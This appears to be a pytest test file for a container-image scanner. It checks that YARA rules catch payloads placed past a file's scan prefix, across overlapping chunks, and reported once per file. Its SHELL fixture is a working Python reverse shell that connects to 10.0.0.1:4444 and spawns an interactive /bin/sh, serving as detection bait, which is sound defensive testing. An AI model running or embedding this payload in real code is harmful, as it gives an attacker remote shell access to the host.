"""Files longer than --max-file-scan: the detectors get the first bytes, and YARA the rest too, in
overlapping parts, one at a time; a rule is reported once per file, with the line in the whole file."""

from __future__ import annotations

import json

import pytest

import explorer.layerfs.walker as walker
from explorer.detectors.registry import build_detectors
from explorer.scan.engine import scan
from explorer.demo.imagewriter import Entry, ImageSpec, Layer
from explorer.layerfs.analysis import read_layer
from explorer.core.limits import Limits
from explorer.reports.findings_json import scan_document
from explorer.sources import open_image

SHELL = (b"import socket,subprocess,os\n"
         b"s=socket." b"socket(socket.AF_INET,socket.SOCK_STREAM)\n"
         b's.con' b'nect(("10.0.0.1",4444))\n'
         b"os.du" b"p2(s.fileno(),0); os.du" b"p2(s.fileno(),1)\n"
         b"os.du" b"p2(s.fileno(),2)\n"
         b'p=subprocess.call(["/bin' b'/sh","-i"])\n')
PREFIX = 8 * 1024
PART = 4096
OVERLAP = 512


@pytest.fixture(autouse=True)
def small_parts(monkeypatch):
    monkeypatch.setattr(walker, "PART_BYTES", PART)
    monkeypatch.setattr(walker, "PART_OVERLAP", OVERLAP)


def padded(at: int, payload: bytes, total: int) -> bytes:
    """`total` bytes of numbered lines with `payload` starting at byte `at` (on a line of its own)."""
    lines = b"".join(b"%07d\n" % i for i in range(total // 8 + 1))
    at -= at % 8
    return (lines[:at] + payload + lines[at:])[:total]


def findings(image: str, jobs: int) -> list[dict]:
    with open_image(image) as source:
        result = scan(source, build_detectors(), jobs=jobs, limits=Limits(max_file_scan=PREFIX))
    return scan_document(result)["findings"]


@pytest.mark.parametrize("jobs", [1, 2])
@pytest.mark.parametrize("at", [
    PREFIX + 100,                     # in the first part
    PREFIX + PART - 40,               # across the first border: whole only in the second part
    PREFIX + 5 * PART + 1000,         # far on
])
def test_yara_finds_what_lies_past_the_first_bytes_with_its_line(make_image, jobs, at):
    body = padded(at, SHELL, PREFIX + 8 * PART)
    image = make_image([Layer([Entry.dir("/srv"), Entry.file("/srv/big.py", body)], created_by="COPY big /srv")])
    found = [f for f in findings(image, jobs) if f["rule_id"] == "backdoor.revshell-python"]
    assert len(found) == 1, found
    line = body[:body.index(b"s=socket.")].count(b"\n") + 1
    assert found[0]["line"] == line and found[0]["path"] == "/srv/big.py"


@pytest.mark.parametrize("jobs", [1, 2])
def test_a_rule_found_in_the_first_bytes_and_again_later_is_reported_once_at_the_first(make_image, jobs):
    body = padded(100, SHELL, PREFIX + 6 * PART)
    body = body[:PREFIX + 2 * PART] + SHELL + body[PREFIX + 2 * PART + len(SHELL):]
    image = make_image([Layer([Entry.file("/big.py", body), Entry.file("/small.py", SHELL)])])
    found = [(f["path"], f["line"]) for f in findings(image, jobs) if f["rule_id"] == "backdoor.revshell-python"]
    first = body[:body.index(b"s=socket.")].count(b"\n") + 1
    assert body.count(b"s=socket.") == 2 and first == 14
    assert found == [("/big.py", first), ("/small.py", 2)]


def test_the_walker_holds_one_part_at_a_time_and_parts_overlap(make_image):
    seen = []

    class Parts:
        def wants(self, entry):
            return True

        def visit(self, entry, data):
            seen.append(("visit", entry.path, len(data), entry.digest))

        def wants_parts(self, entry):
            return True

        def visit_part(self, entry, data, newlines_before):
            seen.append(("part", entry.path, len(data), newlines_before))

    body = padded(0, b"", PREFIX + 2 * PART + 100)
    image = make_image([Layer([Entry.file("/big", body)])])
    with open_image(image) as source:
        read_layer(source, source.layers[0], Parts(), None, Limits(max_file_scan=PREFIX))
    assert seen[0] == ("visit", "/big", PREFIX, None), "the first bytes go before the rest is read"
    assert [s[2] for s in seen[1:]] == [OVERLAP + PART, OVERLAP + PART, OVERLAP + 100]
    assert [s[3] for s in seen[1:]] == [(PREFIX - OVERLAP) // 8, (PREFIX + PART - OVERLAP) // 8,
                                        (PREFIX + 2 * PART - OVERLAP) // 8]


@pytest.mark.parametrize("jobs", [1, 2])
def test_a_long_file_cut_short_gives_no_finding_and_the_layer_is_truncated(make_image, jobs):
    body = padded(PREFIX + PART + 100, SHELL, PREFIX + 8 * PART)
    cut = Layer([Entry.file("/srv/big.py", body)], created_by="COPY big /srv", compression="none")
    cut.truncate = PREFIX + 3 * PART
    image = make_image(ImageSpec(layers=[cut]))
    found = findings(image, jobs)
    assert [f["rule_id"] for f in found if f["path"] == "/srv/big.py"] == []
    assert any(f["rule_id"] == "integrity.truncated-layer" for f in found)
